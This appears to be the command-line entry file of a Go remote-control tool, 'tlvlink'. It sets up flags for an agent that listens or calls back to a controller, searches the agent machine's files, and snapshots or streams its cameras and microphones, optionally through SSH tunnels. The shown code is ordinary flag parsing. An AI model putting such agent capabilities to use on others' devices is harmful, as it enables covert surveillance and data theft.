// Package cmd wires up the CLI flags and dispatches to the core modes.
package cmd

import (
	"context"
	"fmt"
	"io"
	"os"
	"strconv"
	"time"

	flag "github.com/spf13/pflag"

	"tlvlink/config"
	"tlvlink/internal/core"
	tlerr "tlvlink/internal/errors"
	"tlvlink/internal/metrics"
	"tlvlink/util"
)

// version is overridable at link time:
//
//	go build -ldflags "-X tlvlink/cmd.version=2.0.0"
var version = "0.3.0" //nolint:gochecknoglobals

// Execute parses args and runs the selected mode.
func Execute(ctx context.Context, args []string) error {
	return run(ctx, args, os.Stdout, os.Stderr)
}

func run(ctx context.Context, args []string, out, errOut io.Writer) error {
	if len(args) == 0 {
		printUsage(errOut, newFlagSet(config.Default(), new(cliFlags)))
		return nil
	}

	// Config sources are layered before the full parse so that every
	// flag default already reflects file and environment values.
	cfg, err := loadSources(args)
	if err != nil {
		return err
	}

	cli := new(cliFlags)
	fs := newFlagSet(cfg, cli)
	fs.SetOutput(errOut)
	fs.Usage = func() { printUsage(errOut, fs) }
	if err := fs.Parse(args); err != nil {
		return err
	}

	if cli.help {
		printUsage(errOut, fs)
		return nil
	}
	if cli.version {
		fmt.Fprintf(out, "tlvlink %s\n", version)
		return nil
	}

	if fs.Changed("timeout") {
		cfg.Timeout = time.Duration(cli.timeoutSec) * time.Second
	}
	if err := parsePositional(cfg, fs.Args()); err != nil {
		return err
	}
	if err := cfg.ApplyTunnelSpec(); err != nil {
		return err
	}
	if err := cfg.Validate(); err != nil {
		return err
	}
	if cli.dryRun {
		fmt.Fprintf(out, "configuration ok: %s\n", describe(cfg))
		return nil
	}

	logger := util.NewLogger(cfg.Verbose)
	logger.SetOutput(errOut)

	var m *metrics.Collector
	if cfg.Metrics {
		m = metrics.New()
		defer func() { fmt.Fprintln(errOut, m.JSON()) }()
	}

	mode, err := core.Build(cfg, logger, core.WithMetrics(m), core.WithOutput(out, errOut))
	if err != nil {
		return err
	}
	logger.Debug("starting %s", describe(cfg))
	return mode.Run(ctx)
}

// cliFlags holds flags that steer the CLI itself rather than the Config.
type cliFlags struct {
	configPath string
	envFile    string
	timeoutSec int
	dryRun     bool
	version    bool
	help       bool
}

// loadSources builds the base Config from defaults, the TOML file named
// by --config, the dotenv file and TLVLINK_* variables, in that order.
func loadSources(args []string) (*config.Config, error) {
	var cli cliFlags
	pre := flag.NewFlagSet("tlvlink", flag.ContinueOnError)
	pre.ParseErrorsWhitelist.UnknownFlags = true
	pre.SetOutput(io.Discard)
	pre.Usage = func() {}
	pre.StringVar(&cli.configPath, "config", "", "")
	pre.StringVar(&cli.envFile, "env-file", "", "")
	pre.BoolVarP(&cli.help, "help", "h", false, "")
	// Anything else is reported by the full parse.
	_ = pre.Parse(args)

	cfg := config.Default()
	if cli.configPath != "" {
		if err := config.LoadFile(cfg, cli.configPath); err != nil {
			return nil, err
		}
	}
	envFile := cli.envFile
	if envFile == "" {
		envFile = config.DefaultEnvFile
	}
	if err := config.LoadDotEnv(envFile, cli.envFile != ""); err != nil {
		return nil, err
	}
	config.LoadFromEnv(cfg)
	return cfg, nil
}

func newFlagSet(cfg *config.Config, cli *cliFlags) *flag.FlagSet {
	fs := flag.NewFlagSet("tlvlink", flag.ContinueOnError)
	fs.SortFlags = false

	// ── connection ───────────────────────────────────────────────
	fs.BoolVarP(&cfg.Listen, "listen", "l", cfg.Listen, "Listen mode")
	fs.IntVarP(&cfg.LocalPort, "port", "p", cfg.LocalPort, "Local port number")
	fs.BoolVarP(&cfg.NoDNS, "no-dns", "n", cfg.NoDNS, "Numeric-only, no DNS resolution")
	fs.IntVarP(&cli.timeoutSec, "timeout", "w", int(cfg.Timeout/time.Second), "Connect timeout in seconds")
	fs.StringVar(&cfg.Transport, "transport", cfg.Transport, "Transport: tcp or ws")
	fs.StringVar(&cfg.WSPath, "ws-path", cfg.WSPath, "WebSocket endpoint path")
	fs.IntVar(&cfg.DialAttempts, "dial-attempts", cfg.DialAttempts, "Dial attempts before giving up")

	// ── agent ────────────────────────────────────────────────────
	fs.BoolVar(&cfg.Agent, "agent", cfg.Agent, "Serve commands instead of issuing them")
	fs.StringVar(&cfg.AgentDir, "agent-dir", cfg.AgentDir, "Directory the agent reports and searches")

	// ── actions ──────────────────────────────────────────────────
	fs.BoolVar(&cfg.Getwd, "getwd", false, "Print the agent's working directory")
	fs.StringVar(&cfg.Find, "find", "", "Search the agent for file names containing KEYWORD")
	fs.StringVar(&cfg.FindPath, "path", "", "Search root (default: agent working directory)")
	fs.BoolVar(&cfg.Recursive, "recursive", false, "Descend into subdirectories")
	fs.Int64Var(&cfg.After, "after", 0, "Only files modified after this unix time")
	fs.Int64Var(&cfg.Before, "before", 0, "Only files modified before this unix time")
	fs.BoolVar(&cfg.CamList, "cam-list", false, "List cameras")
	fs.IntVar(&cfg.CamSnap, "cam-snap", 0, "Save one frame from camera ID")
	fs.IntVar(&cfg.CamStream, "cam-stream", 0, "Stream camera ID")
	fs.BoolVar(&cfg.MicList, "mic-list", false, "List microphones")
	fs.IntVar(&cfg.MicStream, "mic-stream", 0, "Stream microphone ID")
	fs.StringVar(&cfg.MicPlay, "mic-play", "", "Play FILE on the agent")
	fs.DurationVar(&cfg.Duration, "duration", 0, "Stream length (0: until interrupted)")
	fs.StringVarP(&cfg.OutputPath, "output", "o", "", "Output file for snapshots and streams")

	// ── SSH tunnel ───────────────────────────────────────────────
	fs.StringVarP(&cfg.TunnelSpec, "tunnel", "T", cfg.TunnelSpec, "SSH tunnel via [user@]host[:port]")
	fs.StringVar(&cfg.SSHKeyPath, "ssh-key", cfg.SSHKeyPath, "SSH private key file")
	fs.BoolVar(&cfg.SSHPassword, "ssh-password", cfg.SSHPassword, "Prompt for SSH password")
	fs.BoolVar(&cfg.UseSSHAgent, "ssh-agent", cfg.UseSSHAgent, "Use SSH agent")
	fs.BoolVar(&cfg.StrictHostKey, "strict-hostkey", cfg.StrictHostKey, "Verify SSH host keys")
	fs.StringVar(&cfg.KnownHostsPath, "known-hosts", cfg.KnownHostsPath, "Custom known_hosts path")

	// ── protocol ─────────────────────────────────────────────────
	fs.IntVar(&cfg.MaxFrame, "max-frame", cfg.MaxFrame, "Largest accepted frame in bytes")
	fs.DurationVar(&cfg.GracePeriod, "grace-period", cfg.GracePeriod, "Wait for stream readers on shutdown")

	// ── output ───────────────────────────────────────────────────
	fs.CountVarP(&cfg.Verbose, "verbose", "v", "Increase verbosity (repeatable)")
	fs.BoolVar(&cfg.Metrics, "metrics", cfg.Metrics, "Print a metrics snapshot on exit")

	// ── CLI ──────────────────────────────────────────────────────
	fs.StringVar(&cli.configPath, "config", "", "TOML configuration file")
	fs.StringVar(&cli.envFile, "env-file", "", "dotenv file (default .env when present)")
	fs.BoolVar(&cli.dryRun, "dry-run", false, "Validate the configuration and exit")
	fs.BoolVar(&cli.version, "version", false, "Print version and exit")
	fs.BoolVarP(&cli.help, "help", "h", false, "Show this help")
	return fs
}

// ── helpers ──────────────────────────────────────────────────────────

func parsePositional(cfg *config.Config, remaining []string) error {
	if cfg.Listen {
		switch len(remaining) {
		case 0: // tlvlink -l -p PORT
		case 1:
			cfg.Host = remaining[0]
		case 2:
			cfg.Host = remaining[0]
			if cfg.LocalPort == 0 {
				port, err := parsePort(remaining[1])
				if err != nil {
					return err
				}
				cfg.LocalPort = port
			}
		default:
			return fmt.Errorf("too many arguments for listen mode")
		}
		return nil
	}

	switch len(remaining) {
	case 0: // host and port from --config or the environment
	case 1:
		cfg.Host = remaining[0]
	case 2:
		cfg.Host = remaining[0]
		port, err := parsePort(remaining[1])
		if err != nil {
			return err
		}
		cfg.Port = port
	default:
		return fmt.Errorf("too many arguments: expected <host> <port>")
	}
	return nil
}

func parsePort(s string) (int, error) {
	port, err := strconv.Atoi(s)
	if err != nil {
		return 0, &tlerr.ConfigError{Field: "port", Value: s, Message: "not a number"}
	}
	if port < 1 || port > 65535 {
		return 0, &tlerr.ConfigError{Field: "port", Value: port, Message: "out of range 1-65535"}
	}
	return port, nil
}

func describe(cfg *config.Config) string {
	role := "controller"
	if cfg.Agent {
		role = "agent"
	}
	var where string
	if cfg.Listen {
		where = "listening on " + util.FormatAddr(cfg.Host, cfg.LocalPort)
	} else {
		where = "connecting to " + util.FormatAddr(cfg.Host, cfg.Port)
	}
	s := fmt.Sprintf("%s %s over %s", role, where, cfg.Transport)
	if cfg.TunnelEnabled {
		s += fmt.Sprintf(" via ssh %s", util.FormatAddr(cfg.TunnelHost, cfg.TunnelPort))
	}
	if actions := cfg.Actions(); len(actions) > 0 {
		s += ", action " + actions[0]
	}
	return s
}

func printUsage(w io.Writer, fs *flag.FlagSet) {
	fmt.Fprintf(w, `tlvlink – remote command and streaming link v%s

Issues typed commands to an agent over one TLV-framed connection and
streams device data back on multiplexed pipes.

Usage:
  tlvlink [options] --ACTION <host> <port>        Connect to an agent
  tlvlink -l -p <port> [options] --ACTION         Wait for an agent to call back
  tlvlink --agent -l -p <port> [options]          Serve as an agent
  tlvlink --agent [options] <host> <port>         Agent calling a controller

Options:
`, version)
	fs.SetOutput(w)
	fs.PrintDefaults()
	fmt.Fprintf(w, `
Examples:
  tlvlink --agent -l -p 4444                      Agent on 4444
  tlvlink --getwd 10.0.0.5 4444                   Agent's working directory
  tlvlink --find .pdf --recursive host 4444       Search for PDFs
  tlvlink --cam-stream 1 --duration 30s host 4444 Stream camera 1
  tlvlink -T ops@bastion --mic-list db 4444       Through an SSH tunnel
`)
}
